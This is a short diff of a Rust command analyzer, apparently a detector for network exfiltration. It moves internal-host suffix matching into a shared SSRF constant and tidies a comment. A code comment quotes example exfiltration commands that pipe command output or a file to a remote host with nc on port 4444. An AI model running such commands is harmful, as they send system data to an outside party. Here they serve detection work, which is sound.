@@ -1483,14 +1483,10 @@ fn feeders<'p>(cmds: &'p [Cmd], c: &Cmd) -> Vec<&'p Cmd> {
 }
 
 /// Whether a host name is local or internal (`localhost`, a single label,
-/// `.internal`, `.local`, `.lan`, `.corp`, `.svc`, `.consul`).
+/// or a suffix the SSRF analyzer reads as internal: `.internal`, `.lan`...).
 fn internal_host(host: &str) -> bool {
     let h = host.to_ascii_lowercase();
-    !h.contains('.')
-        || h == "localhost"
-        || [".internal", ".local", ".lan", ".corp", ".svc", ".consul", ".localdomain", ".intranet", ".home.arpa", ".cluster.local"]
-            .iter()
-            .any(|s| h.ends_with(s))
+    !h.contains('.') || h == "localhost" || super::ssrf::INTERNAL_SUFFIXES.iter().any(|s| h.ends_with(s))
 }
 
 /// The first URL-ish argument of a downloader.
@@ -2215,7 +2211,6 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
         }
         // A raw TCP client fed with data (`id | nc 198.51.100.4 4444`,
         // `nc host 4444 < /tmp/o`): whatever it reads goes to the host.
-        // (Not listening, not a port scan.)
         // (Not listening, not a port scan; a constant probe (`echo ruok |`,
         // `</dev/null`) is a health check, not data.)
         let listens = args.iter().any(|a| {
